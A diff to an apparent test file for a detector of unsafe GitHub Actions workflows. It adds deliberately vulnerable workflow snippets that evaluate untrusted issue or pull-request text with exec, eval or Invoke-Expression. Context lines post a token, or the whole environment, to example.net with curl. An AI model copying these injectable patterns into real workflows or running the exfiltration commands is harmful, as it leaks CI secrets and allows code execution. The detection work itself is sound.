@@ -19,6 +19,17 @@ START = "on: {trigger}\npermissions:\n  contents: write\njobs:\n  build:\n    ru
 CHECKOUT = f"      - uses: actions/checkout@{SHA}\n        with:\n          ref: @\n      - run: make test\n"
 SCRIPT = f"      - uses: actions/github-script@{SHA}\n        env:\n          BODY: ${{{{ github.event.pull_request.body }}}}\n        with:\n          script: @\n"
 PYTHON = "      - shell: python\n        env:\n          BODY: ${{ github.event.pull_request.body }}\n        run: |\n          import os\n          @\n"
+FLOW = '      - env: {A: x, B: "${{ github.event.issue.body }}"}\n        @\n'
+JOBS = """      - run: echo
+        id: a
+    outputs: {t: "@"}
+  label:
+    needs: build
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "${{ needs.build.outputs.t }}"
+"""
+RETURNED = f"      - uses: actions/github-script@{SHA}\n        id: a\n        with:\n          script: |\n            @\n      - run: echo ${{{{ steps.a.outputs.result }}}}\n"
 RUN = "      - env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: @\n"
 
 
@@ -50,6 +61,16 @@ CASES = [
     Case("a body that Python runs", INJECTED, PYTHON, "exec(os.environ['BODY'])", "print(len(os.environ['BODY']))"),
     Case("a body in a shell of Python", INJECTED, PYTHON, "os.system('echo ' + os.environ['BODY'])", "os.system('make test')"),
     Case("an input that an action runs", INJECTED, f"      - uses: some/run@{SHA}\n        with:\n          command: @\n", "echo ${{ github.event.pull_request.title }}", "echo ${{ github.event.pull_request.number }}", at_least=0.7),
+    Case("a variable in braces that Python runs", INJECTED, FLOW, "shell: python\n        run: |\n          import os\n          exec(os.environ['B'])", "shell: python\n        run: |\n          import os\n          exec(os.environ['A'])"),
+    Case("a variable in braces for Python on a command line", INJECTED, FLOW, "run: python3 -c 'import os; exec(os.environ[\"B\"])'", "run: python3 -c 'import os; print(os.environ[\"B\"])'"),
+    Case("a variable in braces that node runs", INJECTED, FLOW, "run: eval(process.env.B)\n        shell: node {0}", "run: console.log(process.env.B)\n        shell: node {0}"),
+    Case("a script in one row with escapes", INJECTED, FLOW, "shell: python\n        run: \"import os\\nexec(os.environ['B'])\"", "shell: python\n        run: \"import os\\nprint(os.environ['B'])\""),
+    Case("a body that Perl evaluates", INJECTED, FLOW, "run: perl -e 'eval $ENV{B}'", "run: perl -e 'print $ENV{B}'"),
+    Case("a body that Ruby evaluates", INJECTED, FLOW, "run: ruby -e 'eval ENV[\"B\"]'", "run: ruby -e 'puts ENV[\"B\"]'"),
+    Case("a body that PowerShell evaluates", INJECTED, FLOW, "shell: pwsh\n        run: Invoke-Expression $env:B", "shell: pwsh\n        run: Write-Output $env:B"),
+    Case("a title in an output of a job", INJECTED, JOBS, "${{ github.event.issue.title }}", "${{ github.event.issue.number }}", at_least=0.7),
+    Case("a title that a script returns", INJECTED, RETURNED, "return context.payload.issue.title", "return context.payload.issue.title.length", at_least=0.7),
+    Case("a title that a script returns by a name", INJECTED, RETURNED, "const t = context.payload.issue.title\n            return t.trim()", "const t = context.payload.issue.title\n            return t.startsWith('x') ? 'a' : 'b'", at_least=0.7),
     Case("a secret that is posted", SECRET, RUN, 'curl -d "$TOKEN" https://example.net/c', 'curl -H "Authorization: Bearer $TOKEN" https://example.net/c', "push", 0.5),
     Case("all variables that are posted", SECRET, RUN, "env | curl -d @- https://example.net/c", "env | sort", "push"),
 ]  # fmt: skip
